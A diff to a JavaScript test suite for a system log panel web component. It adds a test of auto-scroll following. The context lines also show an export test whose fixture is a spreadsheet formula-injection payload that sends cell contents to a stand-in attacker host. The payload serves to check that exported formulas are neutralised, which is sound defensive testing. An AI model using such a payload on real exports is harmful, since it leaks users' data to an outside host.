@@ -212,6 +212,28 @@ describe('<system-log-panel>', () => {
     expect(changes).to.deep.equal([false, true]);
   });
 
+  it('stops following when the user scrolls up between frames at a high rate, or turns the wheel up', async () => {
+    const { panel, client } = await mount();
+    for (let i = 0; i < 300; i++) client.emit('message', system(`r${i}`));
+    await settle(panel);
+    const list = viewport(panel);
+    expect(panel.follow).to.equal(true);
+    // The user's scroll lands, and an update runs before its scroll event does.
+    list.scrollTop = 100;
+    panel.requestUpdate();
+    await panel.updateComplete;
+    expect(panel.follow).to.equal(false);
+    for (let i = 300; i < 400; i++) client.emit('message', system(`r${i}`));
+    await settle(panel);
+    expect(list.scrollTop).to.equal(100);
+
+    await scrollTo(panel, list.scrollHeight - list.clientHeight);
+    expect(panel.follow).to.equal(true);
+    list.dispatchEvent(new WheelEvent('wheel', { deltaY: -120, bubbles: true }));
+    await settle(panel);
+    expect(panel.follow).to.equal(false);
+  });
+
   it('exports the filtered view as JSON, NDJSON and CSV with formula cells neutralised', async () => {
     const { panel, client } = await mount();
     client.emit('message', system('=HYPERLINK("http://evil.example/?"&A1,"x")', { level: 'ERROR' }));
